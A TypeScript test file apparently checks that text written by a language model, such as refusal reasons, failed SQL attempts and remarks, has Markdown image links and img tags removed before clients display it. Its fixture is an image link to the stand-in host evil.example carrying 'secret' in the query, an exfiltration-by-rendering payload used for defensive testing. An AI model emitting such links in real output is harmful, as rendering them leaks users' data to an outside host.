/** Errors of questions without an answer: they quote what a language model wrote, and clients may show them as Markdown. */
import { describe, expect, it } from 'vitest';
import { remark } from '../../../src/llm/addresses.ts';
import { failure } from '../../../src/llm/failed.ts';
import { clearReadings } from '../../../src/llm/readings.ts';

const IMAGE = '![x](https://evil.example/?d=secret)';
const harmless = (text: string): void => expect(text).not.toMatch(/!\[|evil\.example|<img/);

describe('an address that a language model wrote', () => {
  it('is not in the reason of a refusal', () => {
    const { message } = failure({ kind: 'refused', refusal: `No city: ${IMAGE}`, tries: [] });
    expect(message).toMatch(/: No city: \[x\]\(/);
    harmless(message);
  });

  it('is not in the attempts, nor in their errors', () => {
    const { message } = failure({
      kind: 'failed',
      tries: [{ sql: `SELECT ${IMAGE}, '<img src=//evil.example>'`, error: `syntax error near ${IMAGE}` }],
    } as never);
    expect(message).toContain('1. SELECT [x](');
    harmless(message);
  });

  it('is not in a remark', () => {
    harmless(remark(`Because ${IMAGE} <img src="https://evil.example/a">`, 1000));
    expect(remark('The name of\nthe city, with a < b', 1000)).toBe('The name of the city, with a < b');
  });

  it('is not in a reading', async () => {
    const { readings } = await clearReadings([{ reading: `Cities ${IMAGE}`, sql: 'SELECT 1' }], async () => undefined);
    expect(readings).toHaveLength(1);
    harmless(readings[0]?.reading ?? '');
  });

  it('is looked for in a few readings only', async () => {
    const all = Array.from({ length: 1000 }, (_, i) => ({ reading: `Cities ${i}`, sql: `SELECT ${i}` }));
    let checked = 0;
    await clearReadings(all, async () => `error ${++checked}`);
    expect(checked).toBeLessThanOrEqual(10);
  });
});
